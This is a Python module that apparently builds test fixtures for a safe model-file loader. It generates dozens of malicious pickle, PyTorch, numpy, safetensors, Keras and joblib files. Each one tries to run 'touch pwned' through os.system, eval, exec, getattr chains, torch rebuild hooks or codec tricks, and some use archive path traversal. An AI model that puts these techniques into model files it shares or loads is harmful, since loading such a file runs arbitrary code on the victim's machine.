"""
Files that would touch `pwned` if any of them were trusted: payloads by every way into a pickle that is known.

Each is a whole file but for its payload: the tensor beside it is one that torch itself reads.
"""

import io
import json
import struct

import numpy as np
from opcodes import (
    BUILD,
    MAGIC,
    NEW,
    PROTOCOL,
    call,
    listed,
    mapping,
    name,
    paired,
    pickled,
    row,
    stacked,
    storage,
    tarred,
    tensor,
    text,
    torch_legacy,
    torch_zip,
    whole,
    zipped,
)

SHELL = text("touch pwned")
PYTHON = text("open('pwned', 'w')")
RUN = call(name("os", "system"), SHELL)
POSIX = pickled(call(name("posix", "system"), SHELL))
HONEST = mapping(weight=tensor(storage()))
OLD = mapping(weight=tensor(storage(legacy=True)))


def beside(payload: bytes, held: bytes = tensor(storage())) -> bytes:
    """A pickle of a tensor with the payload beside it."""
    return pickled(mapping(weight=held, other=payload))


def memoised() -> bytes:
    """The names of the global come out of the memo, as text that stood far away."""
    return pickled(
        listed(text("posix") + b"q\x00", text("system") + b"q\x01", SHELL + b"q\x02", b"h\x00h\x01\x93h\x02\x85R")
    )


def chained() -> bytes:
    """`getattr(__import__("os"), "system")("touch pwned")`."""
    imported = call(name("builtins", "__import__"), text("os"))
    return call(call(name("builtins", "getattr"), imported, text("system")), SHELL)


def attributes() -> bytes:
    """A configuration object whose state replaces what Python looks up on it."""
    evil = name("os", "system")
    state = mapping(__class__=evil, __reduce__=evil, __setstate__=evil, __iter__=evil, items=evil, keys=evil)
    return name("argparse", "Namespace") + b")" + NEW + state + BUILD


def inert_state() -> bytes:
    """The same with plain values only, and state handed over in both forms."""
    state = mapping(__class__=text("os"), __dict__=mapping(a=whole(1)), __setstate__=text("x"), __init__=b"N")
    return name("argparse", "Namespace") + b")" + NEW + row(state, mapping(__slots__=text("x"))) + BUILD


def objects() -> bytes:
    """An array of Python objects whose pickle is evil."""
    data = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    np.lib.format.write_array_header_1_0(data, header)
    return data.getvalue() + POSIX


def safetensors(header: bytes, data: bytes = b"") -> bytes:
    """A safetensors file with any header."""
    return struct.pack("<Q", len(header)) + header + data


def in_metadata() -> bytes:
    """A pickle as text in the metadata, which says to be loaded."""
    held = {"__metadata__": {"pickle": POSIX.decode("latin1"), "loader": "pickle.loads"}}
    one = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    return safetensors(json.dumps(held | one).encode(), b"\0\0\0\0")


PAYLOADS = {
    "os.system": RUN,
    "posix.system by stack": stacked("posix", "system") + row(SHELL) + b"R",
    "subprocess.Popen": call(name("subprocess", "Popen"), listed(text("touch"), text("pwned"))),
    "builtins.eval": call(name("builtins", "eval"), PYTHON),
    "__builtin__.eval": call(name("__builtin__", "eval"), PYTHON),
    "builtins.exec": call(name("builtins", "exec"), PYTHON),
    "getattr chain": chained(),
    "io.FileIO": call(name("_io", "FileIO"), text("pwned"), text("w")),
    "obj": b"(" + name("os", "system") + SHELL + b"o",
    "inst": b"(" + SHELL + b"ios\nsystem\n",
    "newobj": name("logging", "FileHandler") + row(text("pwned")) + NEW,
    "extension": b"\x82\x01" + row(SHELL) + b"R",
    "build": name("argparse", "Namespace") + b")" + NEW + RUN + BUILD,
    "attributes": attributes(),
    "inert state": inert_state(),
    "globals by dots": stacked("argparse", "Namespace.__init__.__globals__"),
    "munch by dots": stacked("munch", "Munch.__init__.__globals__"),
    "stand-in called": call(name("omegaconf.dictconfig", "DictConfig"), RUN),
    "hub": call(name("torch.hub", "load"), text("."), text("pwned"), text("local")),
    "torch.load": call(name("torch.serialization", "load"), text("other.pth")),
    "load from bytes": call(name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(POSIX)) + POSIX),
    "compile_file": call(name("torch._inductor.codecache", "compile_file"), text(""), text(""), text("touch pwned")),
    "numpy.load": call(name("numpy", "load"), text("objects.npy")),
    "numpy.runstring": call(name("numpy.testing._private.utils", "runstring"), PYTHON, mapping()),
    "rot13": call(name("_codecs", "encode"), text("gbhpu"), text("rot13")),
    "codec by name": call(name("_codecs", "encode"), text("x"), text("idlelib.run")),
    "storage of a function": tensor(storage(name("os", "system"))),
    "storage by a path": tensor(storage(key="../../../../etc/passwd")),
    "rebuild from a function": call(
        name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"), row(SHELL), b"N"
    ),
    "rebuild of nothing": call(name("torch._utils", "_rebuild_tensor_v2"), *[b"N"] * 6),
    "rebuild of text": call(name("torch._utils", "_rebuild_parameter"), SHELL, SHELL, SHELL),
    "hook": call(name("torch._utils", "_rebuild_parameter"), tensor(storage()), b"\x88", paired((whole(0), RUN))),
    "device": call(name("torch", "device"), text("cuda:99")),
    "dict with a hidden class": call(name("collections", "OrderedDict")) + mapping(__class__=RUN) + BUILD,
    "whole module": name("torch.nn.modules.container", "Sequential") + b")" + NEW + mapping(_modules=RUN) + BUILD,
}
"""By what it tries: opcodes that push the result."""

OTHERS = {
    "memo.pth": torch_zip(memoised()),
    "bare.pkl": POSIX,
    "bare0.pkl": b"cposix\nsystem\n(Vtouch pwned\ntR.",
    "second.pth": MAGIC + POSIX,
    "third.pth": MAGIC + PROTOCOL + POSIX,
    "system.pth": torch_legacy(pickled(OLD), system=POSIX),
    "keys.pth": torch_legacy(pickled(OLD), keys=POSIX),
    "magic-by-eval.pth": pickled(call(name("builtins", "eval"), PYTHON)) + PROTOCOL + POSIX,
    "identity.pth": torch_zip(pickled(HONEST), {"archive/.data/serialization_id": POSIX}),
    "byteorder.pth": torch_zip(pickled(HONEST), {"archive/byteorder": POSIX}),
    "nested.pth": torch_zip(pickled(HONEST), {"archive/other.pkl": POSIX, "data.pkl": POSIX, "other/data.pkl": POSIX}),
    "outside.pth": torch_zip(pickled(HONEST), {"../pwned": b"", "/pwned": b"", "archive/../../pwned": b""}),
    "script.pt": zipped(
        {
            "m/data.pkl": POSIX,
            "m/constants.pkl": POSIX,
            "m/code/__torch__.py": b"op_version_set = 1\nclass M(Module):\n  def forward(self): pass\n",
            "m/version": b"3\n",
        }
    ),
    "exported.pt2": zipped(
        {"m/archive_format": b"pt2", "m/version": b"0", "m/models/model.json": b"{}", "m/data/weights/w.pt": POSIX}
    ),
    "exported-old.pt2": zipped({"version": b"8.1", "serialized_exported_program.json": b"{}", "w.pt": POSIX}),
    "old.tar": tarred({"sys_info": POSIX, "pickle": POSIX, "storages": POSIX, "tensors": POSIX}),
    "outside.tar": tarred({"../pwned": b"", "sys_info": POSIX, "pickle": POSIX, "storages": POSIX, "tensors": POSIX}),
    "objects.npy": objects(),
    "objects.npz": zipped({"z.npy": objects(), "y.npy": objects()}),
    "metadata.safetensors": in_metadata(),
    "keras.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + POSIX,
    "keras.keras": zipped({"config.json": b"{}", "model.weights.h5": POSIX, "metadata.json": b"{}"}),
    "joblib.joblib": b"\x80\x04\x95" + struct.pack("<Q", len(POSIX)) + POSIX[2:],
    "gzipped.pth": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + POSIX,
    "ending.pth": b"PK\3\4" + POSIX,
    "empty.pth": b"",
    "script.sh": b"#!/bin/sh\ntouch pwned\n",
    "code.py": b"open('pwned', 'w')\n",
}  # fmt: skip
"""By name: whole files in which the payload stands elsewhere."""


def files() -> dict[str, bytes]:
    """Every file, by a name that says what it tries."""
    payloads = {key.replace(" ", "-"): value for key, value in PAYLOADS.items()}
    zips = {f"zip-{key}.pth": torch_zip(beside(value)) for key, value in payloads.items()}
    chosen = ("os.system", "obj", "builtins.eval", "attributes", "storage-of-a-function", "load-from-bytes")
    legacy = {f"legacy-{key}.pth": torch_legacy(beside(payloads[key], tensor(storage(legacy=True)))) for key in chosen}
    return zips | legacy | OTHERS
